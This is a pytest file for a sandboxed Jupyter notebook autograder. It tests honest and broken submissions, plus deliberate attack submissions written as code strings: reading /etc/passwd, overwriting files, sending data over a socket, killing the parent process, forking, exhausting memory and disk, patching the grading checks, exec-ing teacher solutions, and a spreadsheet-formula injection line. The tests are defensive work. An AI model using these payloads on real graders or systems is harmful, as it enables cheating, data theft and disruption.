"""The grader, on the synthetic teacher notebook tests/fixtures/classroom/99_tiny.ipynb and on
chapter 01: honest submissions, broken ones, and attacks on the grade.

Kernels are slow to start, so one ``python -m minigluon_workbook grade --jobs 2`` run grades every kind
of submission at once (module fixture) and the tests read its CSV, feedback and summary.
Every attack must end in failing rows (never a pass) and leave the class folder unchanged.
"""
import copy
import csv
import hashlib
import os
import socket
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from minigluon_workbook import notebooks as nbs
from minigluon_workbook import sandbox
from minigluon_workbook.grade import Settings
from minigluon_workbook.graded import build_graded, observe_source
from minigluon_workbook.judging import judge, teacher_checks
from minigluon_workbook.report import Row, feedback_dir
from minigluon_workbook.runner import SEED_TOKEN, Record
from minigluon_workbook.checks import rng
from minigluon_workbook.student import student_notebook

ROOT = Path(__file__).resolve().parent.parent
TEACHER_DIR = ROOT / 'tests' / 'fixtures' / 'classroom'
TEACHER = TEACHER_DIR / '99_tiny.ipynb'
NAME = TEACHER.name
TIMEOUT = 40
EXERCISE_TIMEOUT = 4
MEMORY_MB = 1024
SLEEPER = '987.654'   # a forked `sleep` that tries to outlive grading
needs_sandbox = pytest.mark.skipif(bool(sandbox.problem()), reason='no sandbox to attack: %s'
                                   % sandbox.problem())


def teacher():
    return nbformat.read(str(TEACHER), as_version=4)


def cell(nb, cell_id):
    return next(c for c in nb.cells if c.id == cell_id)


def tampered():
    """Wrong answers whose check cells were edited to pass, and a deleted check."""
    nb = teacher()
    cell(nb, 'solution-1').source = 'def double(x):\n    return x + 1'
    cell(nb, 'check-1').source = "print('PASSED exercise 99.1: trust me')"
    nb.cells.remove(cell(nb, 'check-2'))           # a right answer, its check deleted
    cell(nb, 'solution-3').source = 'words = []'
    check3 = cell(nb, 'check-3')                    # metadata gone: still found by its id
    check3.source = "print('PASSED exercise 99.3')"
    del check3.metadata['exercise']
    return nb


def with_solution_2(source):
    nb = teacher()
    cell(nb, 'solution-2').source = source
    return nb


def attack(source):
    """The student edition (nothing solved) with ``source`` in a cell after the imports."""
    def make():
        nb = student_notebook(teacher(), NAME)
        nb.cells.insert(2, nbformat.v4.new_code_cell(source))
        return nb
    return make


def classroom_attacks(classroom: Path, port: int) -> dict:
    """Folder -> notebook for each attack; none of them solves anything."""
    fake_passes = "print('PASSED exercise 99.1: double works\\nPASSED exercise 99.2\\nPASSED exercise 99.3')"
    return {
        'attack-print': attack(fake_passes),
        'attack-custom-exc': attack(
            'get_ipython().set_custom_exc((BaseException,), lambda *a, **k: %s)' % fake_passes),
        'attack-patch-checks': attack(
            'import tinychecks\n'
            'for k in (1, 2, 3):\n'
            "    setattr(tinychecks, 'check_%d' % k, lambda *a, **kw: print('PASSED exercise 99.%d' % k))"),
        'attack-forge-data': attack(
            'import tinychecks, minigluon_workbook.checks as wc\n'
            "tinychecks.check_1.observe = lambda *a, seed: {'results': [0.0, 6.0, -5.0]}\n"
            'from IPython.display import display\n'
            "wc.report = lambda check, seed, answers: display({wc.MIME: {'exercise': check.exercise, "
            "'data': {'results': [0.0, 6.0, -5.0]}}}, raw=True)"),
        'attack-patch-modules': attack(
            'import numpy, minigluon, minigluon_workbook.checks as wc\n'
            'numpy.allclose = numpy.isclose = lambda *a, **k: True\n'
            'minigluon.nd.array = lambda *a, **k: None\n'
            "wc.expect = lambda *a, **k: None\nwc.close = lambda *a, **k: True\n"
            "wc.verdict = lambda *a, **k: 'ok'\nwc.Data.array = lambda *a, **k: 0"),
        'attack-teacher-edition': attack(
            'import json, pathlib, minigluon_workbook\n'
            'for path in (pathlib.Path(minigluon_workbook.__file__).resolve().parents[1] / %r, pathlib.Path(%r)):\n'
            '    try:\n'
            "        for c in json.load(open(path))['cells']:\n"
            "            if 'solution' in c['metadata'].get('tags', []):\n"
            "                exec(''.join(c['source']))\n"
            '    except OSError as e:\n'
            '        print(e)' % ('tests/fixtures/classroom/' + NAME, str(TEACHER))),
        'attack-other-students': attack(
            'import json, glob\n'
            'for path in glob.glob(%r):\n'
            "    for c in json.load(open(path))['cells']:\n"
            "        if 'solution' in c['metadata'].get('tags', []):\n"
            "            exec(''.join(c['source']))" % (str(classroom) + '/*/*.ipynb')),
        'attack-write-files': attack(
            'import shutil, pathlib\n'
            'for target in (%r, %r, %r, %r):\n'
            '    try:\n'
            "        shutil.copy('/etc/passwd', target)\n"
            '    except OSError as e:\n'
            '        print(e)\n'
            '    try:\n'
            "        pathlib.Path(target).write_text('pwned')\n"
            '    except OSError as e:\n'
            '        print(e)' % (str(classroom / 'passwd'), str(classroom / 'teacher-copy' / NAME),
                                 str(TEACHER), '/tmp/workbook-pwned')),
        'attack-socket': attack(
            'import socket\n'
            "s = socket.create_connection(('127.0.0.1', %d), timeout=2)\n"
            "s.sendall(b'stolen answers')" % port),
        'attack-sys-exit': attack('import sys\nsys.exit(0)'),
        'attack-os-exit': attack('import os\nos._exit(0)'),
        'attack-kill-parent': attack('import os, signal\nos.kill(os.getppid(), signal.SIGKILL)'),
        'attack-fork': attack(
            'import os\n'
            'if os.fork() == 0:\n'
            '    os.setsid()\n'
            "    os.execv('/bin/sleep', ['sleep', %r])" % SLEEPER),
        'attack-memory': attack('hog = [bytearray(64 * 1024 ** 2) for _ in range(64)]  # 4 GB'),
        'attack-fill-disk': attack(
            'import os\n'
            'for name in ("big", "/tmp/big", os.path.expanduser("~/big")):\n'
            '    try:\n'
            '        with open(name, "wb") as f:\n'
            '            for _ in range(1024):\n'
            '                f.write(bytes(2 ** 20))  # 1 GB in all, if it could\n'
            '    except OSError as e:\n'
            '        print(name, e)'),
    }


SUBMISSIONS = {  # folder -> notebook
    'student': 'student',
    'alice': tampered,
    'loop': lambda: with_solution_2('while True:\n    pass'),
    'stubborn-loop': lambda: with_solution_2(
        'import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass'),
    'teacher-copy': teacher,
    'memory': lambda: with_solution_2('hog = bytearray(2 * 1024 ** 3)  # 2 GB\ntotal = 385'),
    'exit': lambda: with_solution_2('import os\nos._exit(1)'),
    'broken': 'not json',
    'renamed': 'renamed',
    'nochapter': 'nochapter',
}


def digest(folder: Path) -> dict:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob('*')) if p.is_file()}


def sleepers() -> list:
    found = []
    for cmdline in Path('/proc').glob('[0-9]*/cmdline'):
        try:
            if SLEEPER.encode() in cmdline.read_bytes():
                found.append(cmdline.parent.name)
        except OSError:
            pass
    return found


def grade_folder(classroom: Path, out: Path, *extra) -> dict:
    command = [sys.executable, '-m', 'minigluon_workbook', 'grade', str(classroom), '--csv', str(out),
               '--timeout', str(TIMEOUT), '--exercise-timeout', str(EXERCISE_TIMEOUT),
               '--memory-mb', str(MEMORY_MB), '--jobs', '2', *extra]
    proc = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    with open(out, newline='', encoding='utf-8') as f:
        table = list(csv.reader(f))
    rows = {}
    for notebook, exercise, passed, message in table[1:]:
        rows.setdefault(Path(notebook).parent.name, []).append((exercise, passed, message))
    return {'header': table[0], 'rows': rows, 'stdout': proc.stdout, 'stderr': proc.stderr}


@pytest.fixture(scope='module')
def listener():
    server = socket.socket()
    server.bind(('127.0.0.1', 0))
    server.listen(5)
    server.settimeout(0.5)
    yield server
    server.close()


@pytest.fixture(scope='module')
def graded(tmp_path_factory, listener):
    classroom = tmp_path_factory.mktemp('classroom')
    submissions = dict(SUBMISSIONS)
    if not sandbox.problem():
        submissions.update(classroom_attacks(classroom, listener.getsockname()[1]))
    for folder, make in submissions.items():
        target = classroom / folder / NAME
        target.parent.mkdir()
        if make == 'student':
            nbformat.write(student_notebook(teacher(), NAME), str(target))
        elif make == 'renamed':  # Colab's download name: found through the metadata
            nbformat.write(student_notebook(teacher(), NAME), str(target.with_name('99_tiny (1).ipynb')))
        elif make == 'nochapter':
            nbformat.write(nbformat.v4.new_notebook(), str(target.with_name('notes.ipynb')))
        elif make == 'not json':
            target.write_text('{"cells": [')
        else:
            nbformat.write(make(), str(target))
    teacher_before = digest(TEACHER_DIR)
    before = digest(classroom)
    result = grade_folder(classroom, tmp_path_factory.mktemp('out') / 'grades.csv',
                          '--teacher', str(TEACHER_DIR))
    result.update(classroom=classroom, unchanged=digest(classroom) == before,
                  teacher_unchanged=digest(TEACHER_DIR) == teacher_before, sleepers=sleepers())
    return result


def test_csv_columns_exact(graded):
    assert graded['header'] == ['notebook', 'exercise', 'passed', 'message']


def test_teacher_edition_gets_full_marks(graded):
    rows = graded['rows']['teacher-copy']
    assert [(e, p) for e, p, _ in rows] == [('99.1', 'true'), ('99.2', 'true'), ('99.3', 'true')]
    assert rows[0][2] == 'PASSED exercise 99.1: double works'


def test_student_edition_gets_zero_with_reasons(graded):
    for folder in ('student', 'renamed'):
        rows = graded['rows'][folder]
        assert [e for e, _, _ in rows] == ['99.1', '99.2', '99.3']
        assert all(p == 'false' for _, p, _ in rows)
        for _, _, message in rows:
            assert 'NotImplementedError' in message and 'not done yet' in message
        # 99.1's stub is inside a function: the check's call raised it.
        assert rows[0][2].startswith('not done yet: double(') and 'raised NotImplementedError' in rows[0][2]
        assert rows[1][2].startswith('your solution cell raised NotImplementedError')


def test_edited_and_deleted_checks_are_graded_by_the_originals(graded):
    rows = graded['rows']['alice']
    assert [(e, p) for e, p, _ in rows] == [('99.1', 'false'), ('99.2', 'true'), ('99.3', 'false')]
    assert rows[0][2].startswith('double(') and '; expected ' in rows[0][2]
    assert rows[2][2] == "words is []; expected ['mini', 'gluon']"


def test_a_loop_fails_its_exercise_only(graded):
    rows = graded['rows']['loop']
    assert [(e, p) for e, p, _ in rows] == [('99.1', 'true'), ('99.2', 'false'), ('99.3', 'true')]
    message = rows[1][2]
    assert message.startswith('timed out: exercise 99.2 ran longer than 4 s (--exercise-timeout;')
    assert 'while True' in message


def test_a_loop_that_ignores_interrupts_keeps_the_exercises_before_it(graded):
    rows = graded['rows']['stubborn-loop']
    assert [(e, p) for e, p, _ in rows] == [('99.1', 'true'), ('99.2', 'false'), ('99.3', 'false')]
    assert rows[1][2].startswith('timed out: exercise 99.2')
    assert rows[2][2] == 'not run: exercise 99.2 timed out and the kernel did not stop'


def test_huge_allocation_fails_cleanly_under_memory_limit(graded):
    rows = graded['rows']['memory']
    assert [(e, p) for e, p, _ in rows] == [('99.1', 'true'), ('99.2', 'false'), ('99.3', 'true')]
    assert rows[1][2] == ('your solution cell raised MemoryError '
                          '(out of memory: the limit is %d MB, --memory-mb)' % MEMORY_MB)


def test_kernel_that_dies_keeps_the_exercises_before(graded):
    rows = graded['rows']['exit']
    assert [(e, p) for e, p, _ in rows] == [('99.1', 'true'), ('99.2', 'false'), ('99.3', 'false')]
    assert 'kernel died' in rows[1][2] and rows[2][2] == 'not run: exercise 99.2 ended the kernel'


def test_unreadable_and_unknown_notebooks_get_rows(graded):
    broken = graded['rows']['broken']
    assert len(broken) == 3 and all(m.startswith('could not read the notebook') for _, _, m in broken)
    (row,) = graded['rows']['nochapter']
    assert row[0] == '' and row[1] == 'false' and 'no teacher edition named notes.ipynb' in row[2]


def test_summary_table_progress_and_feedback(graded, tmp_path):
    lines = graded['stdout'].splitlines()
    per_notebook = {line.split()[0]: line.split()[1:] for line in lines if line.endswith('  3')}
    assert per_notebook[str(graded['classroom'] / 'teacher-copy' / NAME)] == ['3', '3']
    assert per_notebook[str(graded['classroom'] / 'student' / NAME)] == ['0', '3']
    assert 'grading' in graded['stderr'] and 'notebook' in graded['stderr']  # tqdm
    folder = Path(next(line for line in lines if line.startswith('wrote')).split()[-1])
    feedback = (folder / 'alice__99_tiny.md').read_text()
    assert feedback.startswith('# Feedback on alice/99\\_tiny\\.ipynb\n\n1 of 3 exercises passed.')
    assert "## Exercise 99\\.3: not passed\n\n    words is []; expected ['mini', 'gluon']" in feedback
    assert len(list(folder.iterdir())) == len(list(graded['classroom'].rglob('*.ipynb')))


# ---------------------------------------------------------------- attacks


@needs_sandbox
def test_no_attack_earns_a_pass(graded):
    attacks = {folder: rows for folder, rows in graded['rows'].items() if folder.startswith('attack-')}
    assert len(attacks) == 15
    for folder, rows in attacks.items():
        assert [e for e, _, _ in rows] == ['99.1', '99.2', '99.3'], folder
        assert [p for _, p, _ in rows] == ['false'] * 3, (folder, rows)


@needs_sandbox
def test_attacks_leave_the_class_folder_and_the_machine_alone(graded, listener):
    assert graded['unchanged'] and graded['teacher_unchanged']
    assert not Path('/tmp/workbook-pwned').exists()
    with pytest.raises(socket.timeout):
        listener.accept()                       # nobody connected from inside the sandbox
    assert graded['sleepers'] == []             # the forked sleep died with its sandbox


@needs_sandbox
def test_attack_messages_say_what_happened(graded):
    rows = graded['rows']
    # cells that reach into the checks' machinery are found before anything runs
    for folder, uses in (('attack-custom-exc', "get_ipython"), ('attack-forge-data', ".report"),
                         ('attack-patch-modules', "import minigluon_workbook")):
        message = rows[folder][0][2]
        assert message.startswith('not gradable: cell 3 uses ') and uses in message, message
    # patching the teacher's own module (no machinery named) is monkeypatching an import
    assert rows['attack-patch-checks'][0][2].startswith('not gradable: cell 3 uses setattr on tinychecks')
    assert 'kernel died' in rows['attack-os-exit'][0][2]
    # the runner is pid 1 of the sandbox: the kernel cannot kill it, and grading goes on
    assert rows['attack-kill-parent'][0][2].startswith('not done yet: double(')
    teacher_edition = rows['attack-teacher-edition'][0][2]
    assert teacher_edition.startswith('not gradable: cell 3 uses ') and 'exec' in teacher_edition
    assert 'NotImplementedError' in rows['attack-print'][1][2]


# ---------------------------------------------------------------- chapter 01, as in the issue

@pytest.fixture(scope='module')
def chapter_01(tmp_path_factory):
    chapter = ROOT / 'chapters' / '01_model_construction.ipynb'
    classroom = tmp_path_factory.mktemp('class01')
    student = student_notebook(nbs.read(chapter), chapter.name)

    def with_cell(source):
        nb = copy.deepcopy(student)
        nb.cells.insert(3, nbformat.v4.new_code_cell(source))
        return nb

    submissions = {'teacher': nbs.read(chapter), 'student': student}
    forge = (  # the red team's cell: the seed from a hook, the expected values from the judges
        'import re, importlib, json, pathlib\n'
        'import minigluon_workbook.checks as wc\n'
        'from IPython import get_ipython\n'
        'from IPython.display import display\n'
        'state = {}\n'
        'def grab(info):\n'
        "    m = re.search(r'report\\((\\S+), (\\d+),', info.raw_cell or '')\n"
        "    state['seed'] = int(m.group(2)) if m else state.get('seed')\n"
        "get_ipython().events.register('pre_run_cell', grab)\n"
        "text = pathlib.Path('/box/work/submission.ipynb').read_text()\n"
        "state['disk'] = re.findall(r'report\\(\\S+, (\\d+),', text)\n"
        'def forged(check, seed, answers):\n'
        '    data = {}\n'
        "    for name in ('minigluon_workbook.judges.ch01', 'minigluon_workbook.judges'):\n"
        '        try:\n'
        '            judges = importlib.import_module(name)\n'
        "            data = {'out': judges._fancy_reference(*wc.ch01._draw_3(seed)[:3], wc.ch01._draw_3(seed)[3][0])}\n"
        '        except Exception as err:\n'
        "            data['error'] = repr(err)\n"
        "    display({wc.MIME: {'exercise': check.exercise, 'data': data}}, raw=True)\n"
        'wc.report = forged\n')
    tricks = {  # attacks run only in a sandbox
        'forge-with-judges': with_cell(forge),
        'patched-check': with_cell(
            'from minigluon_workbook.checks import ch01\n'
            "ch01.check_2 = lambda *a, **k: print('PASSED exercise 01.2')"),
        'teacher-solution': with_cell(
            'import json, pathlib, shutil, minigluon_workbook\n'
            'root = pathlib.Path(minigluon_workbook.__file__).resolve().parents[1]\n'
            'try:\n'
            '    shutil.copy("/etc/passwd", %r)\n'
            'except OSError as e:\n'
            '    print(e)\n'
            "for c in json.load(open(root / 'chapters' / '01_model_construction.ipynb'))['cells']:\n"
            "    if 'solution' in c['metadata'].get('tags', []):\n"
            "        exec(''.join(c['source']))" % str(classroom / 'passwd')),
    }
    if not sandbox.problem():
        submissions.update(tricks)
    for folder, nb in submissions.items():
        (classroom / folder).mkdir()
        nbformat.write(nb, str(classroom / folder / chapter.name))
    before = digest(classroom)
    # a real chapter: time limits that a loaded machine meets (timeouts are tested above)
    result = grade_folder(classroom, tmp_path_factory.mktemp('out01') / 'grades.csv',
                          '--timeout', '600', '--exercise-timeout', '120')
    result['unchanged'] = digest(classroom) == before
    return result


def test_chapter_01_teacher_full_marks_student_zero(chapter_01):
    rows = chapter_01['rows']
    assert [(e, p) for e, p, _ in rows['teacher']] == [('01.1', 'true'), ('01.2', 'true'), ('01.3', 'true'),
                                                       ('01.5', 'true'), ('01.6', 'true')]
    assert [p for _, p, _ in rows['student']] == ['false'] * 5
    assert all('not done yet' in m for _, _, m in rows['student'])


@needs_sandbox
def test_chapter_01_tricks_from_the_issue_fail(chapter_01):
    rows = chapter_01['rows']
    assert [p for _, p, _ in rows['patched-check']] == ['false'] * 5
    assert [p for _, p, _ in rows['teacher-solution']] == ['false'] * 5
    assert [p for _, p, _ in rows['forge-with-judges']] == ['false'] * 5
    assert chapter_01['unchanged']


# ---------------------------------------------------------------- observe cells and judging


def test_observe_cell_calls_report_with_a_seed_slot_and_a_thunk():
    from minigluon_workbook.checks import ch01
    source = observe_source('from minigluon_workbook.checks import ch01\nch01.check_1(TwoInputDense)', ch01.check_1)
    # report and the check are imported in the cell itself: no name of the student's stands in
    assert source == ('from minigluon_workbook.checks import ch01\n'
                      'from minigluon_workbook.checks import report as _minigluon_workbook_report\n'
                      'import minigluon_workbook.checks.ch01 as _minigluon_workbook_check\n'
                      '_minigluon_workbook_report(_minigluon_workbook_check.check_1, %s, lambda: (TwoInputDense,))'
                      % SEED_TOKEN)
    assert observe_source('print(1)', ch01.check_1) is None


def test_judging_trusts_only_data():
    checks = teacher_checks(TEACHER)
    settings = Settings(timeout=10, memory_mb=0, exercise_timeout=5)
    nb = teacher()
    scale = float(rng(1).randint(2, 1000))  # tinychecks' observe_2 scales the total by the seed
    right = Record('99.2', 'ok', observation={'exercise': '99.2', 'data': {'total': 385.0 * scale}})
    assert judge(right, checks['99.2'], 1, nb, settings) == (True, 'PASSED exercise 99.2')
    for record in (
            Record('99.2', 'ok', observation={'exercise': '99.2', 'data': {'total': 385.0}}),
            Record('99.2', 'ok', observation={'exercise': '99.1', 'data': {'total': 385.0 * scale}}),
            Record('99.2', 'ok', observation={'exercise': '99.2', 'data': {'total': '385'}}),
            Record('99.2', 'ok', observation={'exercise': '99.2', 'data': [385]}),
            Record('99.2', 'ok', check_error={'ename': 'X', 'evalue': 'PASSED'}),
            Record('99.2', 'stopped', why='error', detail='PASSED'), None):
        ok, message = judge(record, checks['99.2'], 1, nb, settings)
        assert not ok and not message.startswith('PASSED'), record


def test_stub_messages_get_the_not_done_hint():
    checks = teacher_checks(TEACHER)
    record = Record('99.1', 'ok', observation={'exercise': '99.1', 'data': {
        'failed': 'double(3) raised NotImplementedError: '}})
    ok, message = judge(record, checks['99.1'], 1, teacher(), Settings())
    assert not ok and message == ('double(3) raised NotImplementedError (the exercise is not done '
                                  'yet: replace `raise NotImplementedError()` with your code)')


@pytest.mark.skipif(not (os.environ.get('CI') and sandbox.bwrap()),
                    reason='only where CI installed bubblewrap (.ci/run)')
def test_the_sandbox_builds_where_ci_installed_bubblewrap():
    # otherwise the attack tests above would skip and CI would pass without them
    # (as when the venv lay under /tmp, hidden by the sandbox's private /tmp)
    assert sandbox.problem() == ''


def test_without_bubblewrap_the_grader_refuses_unless_told(tmp_path):
    out = tmp_path / 'grades.csv'
    nbformat.write(teacher(), str(tmp_path / NAME))
    env = dict(os.environ, MINIGLUON_WORKBOOK_BWRAP='')
    command = [sys.executable, '-m', 'minigluon_workbook', 'grade', str(tmp_path / NAME), '--csv',
               str(out), '--teacher', str(TEACHER_DIR), '-q']
    proc = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=300, env=env)
    assert proc.returncode == 2 and not out.exists()
    assert 'can only be graded in a sandbox, and bubblewrap (bwrap) was not found' in proc.stdout
    assert '--unsandboxed' in proc.stdout
    proc = subprocess.run(command + ['--unsandboxed'], cwd=ROOT, capture_output=True, text=True,
                          timeout=300, env=env)
    assert proc.returncode == 0, proc.stderr
    assert 'WARNING: --unsandboxed' in proc.stderr and 'bubblewrap (bwrap) was not found' in proc.stderr
    assert 'UNSANDBOXED' in proc.stdout
    assert 'Graded without a sandbox' in (feedback_dir(out) / ('%s__99_tiny.md' % tmp_path.name)).read_text()
    with open(out, newline='') as f:
        assert [r[2] for r in list(csv.reader(f))[1:]] == ['true'] * 3


# ---------------------------------------------------------------- no kernel needed


def test_missing_check_goes_back_after_its_solution():
    graded, plan = build_graded(tampered(), teacher())
    ids = [c.id for c in graded.cells]
    assert ids.index('check-2') == ids.index('solution-2') + 1
    assert [(e.key, ids[e.check], ids[e.solution]) for e in plan] == [
        ('99.1', 'check-1', 'solution-1'), ('99.2', 'check-2', 'solution-2'),
        ('99.3', 'check-3', 'solution-3')]
    for e in plan:
        original = cell(teacher(), ids[e.check])
        assert graded.cells[e.check].source == original.source
        assert graded.cells[e.check].metadata == original.metadata
    assert len(ids) == len(set(ids))


def test_numbered_cell_ids_that_shifted_do_not_mislead():
    """Chapters may number their cells: a cell added to the teacher edition after the
    student edition went out shifts every id after it."""
    def numbered(nb):
        for i, c in enumerate(nb.cells):
            c.id = 'ch99-%03d' % i
        return nb
    student = numbered(student_notebook(teacher(), NAME))
    student.cells.remove(student.cells[7])                  # and the student deleted check 99.2
    newer = teacher()
    newer.cells.insert(1, nbformat.v4.new_markdown_cell('A new paragraph.'))
    newer = numbered(newer)
    graded, plan = build_graded(student, newer)
    for e in plan:
        check = graded.cells[e.check]
        assert check.metadata['exercise'] == e.key
        solution = graded.cells[e.solution].source
        assert e.check == e.solution + 1
        assert {'99.1': 'def double', '99.2': '# YOUR CODE HERE\nraise NotImplementedError()\nprint',
                '99.3': '# YOUR CODE HERE'}[e.key] in solution
    assert sum(nbs.is_check(c) for c in graded.cells) == 3
    assert len({c.id for c in graded.cells}) == len(graded.cells)


def test_checks_with_no_solution_found_go_at_the_end():
    nb = teacher()
    for cell_id in ('solution-3', 'check-3'):
        nb.cells.remove(cell(nb, cell_id))
    graded, plan = build_graded(nb, teacher())
    assert graded.cells[-1].id == 'check-3' and plan[-1].key == '99.3'


def test_student_copies_of_a_check_are_not_trusted():
    nb = teacher()
    fake = copy.deepcopy(cell(nb, 'check-2'))
    fake.id = 'my-copy'
    fake.source = "print('PASSED exercise 99.2')"
    nb.cells.insert(1, fake)
    graded, plan = build_graded(nb, teacher())
    copy_cell = cell(graded, 'my-copy')
    assert not nbs.is_check(copy_cell) and 'exercise' not in copy_cell.metadata
    assert [graded.cells[e.check].id for e in plan] == ['check-1', 'check-2', 'check-3']


def test_check_cell_without_exercise_metadata_is_keyed_by_cell_id():
    nb = teacher()
    del cell(nb, 'check-3').metadata['exercise']
    assert [key for key, _ in nbs.exercises(nb)] == ['99.1', '99.2', 'check-3']


def test_csv_cells_never_start_a_spreadsheet_formula():
    row = Row('-x.ipynb', '99.1', False, '=HYPERLINK("http://evil", "PASSED")')
    assert row.csv() == ["'-x.ipynb", '99.1', 'false', '\'=HYPERLINK("http://evil", "PASSED")']
